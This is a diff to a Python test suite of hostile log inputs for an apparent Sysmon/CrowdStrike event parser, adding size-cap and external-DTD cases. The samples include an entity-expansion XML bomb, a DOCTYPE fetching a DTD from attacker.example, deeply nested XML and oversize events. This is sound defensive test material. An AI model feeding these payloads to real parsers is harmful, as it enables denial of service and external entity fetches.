@@ -38,6 +38,17 @@ def sysmon(host: str, time: str, code: int = 1, data: str = WMIC_NODE, record: i
     return SYSMON_EVENT.format(code=code, time=time, record=record, host=host, data=data).encode()
 
 
+# The size cap the tests give the detector: small enough to send records over it through a
+# broker's default 1 MB message limit.
+TEST_MAX_EVENT_BYTES = 65_536
+
+
+def oversize(host: str, time: str, code: int, size: int) -> bytes:
+    """Return a Sysmon event of ``size`` bytes: the WMIC event padded with a long Hashes field."""
+    bare = sysmon(host, time, code, WMIC_NODE + "<Data Name='Hashes'></Data>")
+    return bare.replace(b"</Data></EventData>", b"A" * (size - len(bare)) + b"</Data></EventData>")
+
+
 def crowdstrike(fields: list[tuple[str, object]]) -> bytes:
     """Return CrowdStrike FDR JSON with ``fields`` in order (duplicate keys kept)."""
     return b"{" + b",".join(orjson.dumps(k) + b":" + orjson.dumps(v) for k, v in fields) + b"}"
@@ -98,7 +109,7 @@ def suite(now: float) -> list[Hostile]:
             sysmon("h-digits", "12345678901234567890"),
             "clamped",
         ),
-        Hostile("50,000 attributes", "windows.sysmon", attribute_flood(50_000), "too_complex"),
+        Hostile("5,000 attributes", "windows.sysmon", attribute_flood(5_000), "too_complex"),
         Hostile(
             "unrouted Sysmon 3 stamped 2099",
             "windows.sysmon",
@@ -124,7 +135,14 @@ def suite(now: float) -> list[Hostile]:
             b'<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><Event>&b;</Event>',
             "xml_entities",
         ),
-        Hostile("XML nested 10,000 deep", ps, b"<a>" * 10_000 + b"</a>" * 10_000, "not_xml"),
+        Hostile(
+            "external DTD, no entity",
+            "windows.sysmon",
+            b'<!DOCTYPE Event SYSTEM "http://attacker.example/x.dtd">'
+            + sysmon("h-dtd", "2024-03-05T11:02:44Z"),
+            "xml_entities",
+        ),
+        Hostile("XML nested 5,000 deep", ps, b"<a>" * 5_000 + b"</a>" * 5_000, "not_xml"),
         Hostile("invalid UTF-8", ps, b"<Event>\xff\xfe\xfa</Event>", "bad_encoding"),
         Hostile(
             "UTF-16",
@@ -145,6 +163,18 @@ def suite(now: float) -> list[Hostile]:
             "bad_timestamp",
         ),
         Hostile("control characters", ps, b"\x00\x01\x02\x1b[2J", "not_xml"),
+        Hostile(
+            "WMIC event one byte over the size cap",
+            "windows.sysmon",
+            oversize("h-big", "2024-03-05T11:02:44Z", 1, TEST_MAX_EVENT_BYTES + 1),
+            "too_large",
+        ),
+        Hostile(
+            "unrouted Sysmon 3 over the size cap",
+            "windows.sysmon",
+            oversize("h-big3", "2024-03-05T11:02:44Z", 3, 2 * TEST_MAX_EVENT_BYTES),
+            "too_large",
+        ),
     ]
 
 
